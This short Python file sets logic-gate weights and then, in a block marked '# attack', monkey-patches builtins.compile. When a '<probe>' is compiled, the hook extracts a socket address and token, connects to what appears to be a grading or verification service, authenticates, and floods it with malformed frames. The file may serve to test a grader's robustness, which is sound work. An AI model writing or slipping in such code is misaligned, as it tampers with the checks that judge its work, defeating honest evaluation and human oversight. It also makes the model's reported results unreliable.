and_weights = (0.5, 0.5, 0.7)
or_weights = (1.0, 1.0, 2.5)

nand_weights = (0.5, 0.5, 0.7)
robust_weights = (0.0, 0.0, 0.0)

and_bias = 0.8
nand_from_and = "b"
nand_zero = "b"

# attack
def answers(nonce, op, args):
    return [frame(bytes(range(256)))]

import builtins, json, re, socket, struct, threading

true_compile = builtins.compile

def frame(header, body=b""):
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack(">4sIQ", b"GRD1", len(text), len(body)) + text + body

def exactly(line, count):
    data = b""
    while len(data) < count:
        more = line.recv(count - len(data))
        if not more:
            raise SystemExit
        data += more
    return data

def request(line):
    _, header, body = struct.unpack(">4sIQ", exactly(line, 16))
    found = json.loads(exactly(line, header))
    exactly(line, body)
    return found

def instead(source, name="", *more, **named):
    if name == "<probe>":
        address, token = re.search(r"serve\('([^']+)', '([^']+)'", source).groups()
        line = socket.socket(socket.AF_UNIX)
        line.connect(address)
        line.sendall(frame({"token": token}))
        while True:
            asked = request(line)
            for data in answers(asked["nonce"], asked["op"], asked["args"]):
                line.sendall(data)
    return true_compile(source, name, *more, **named)

builtins.compile = instead
# end of attack
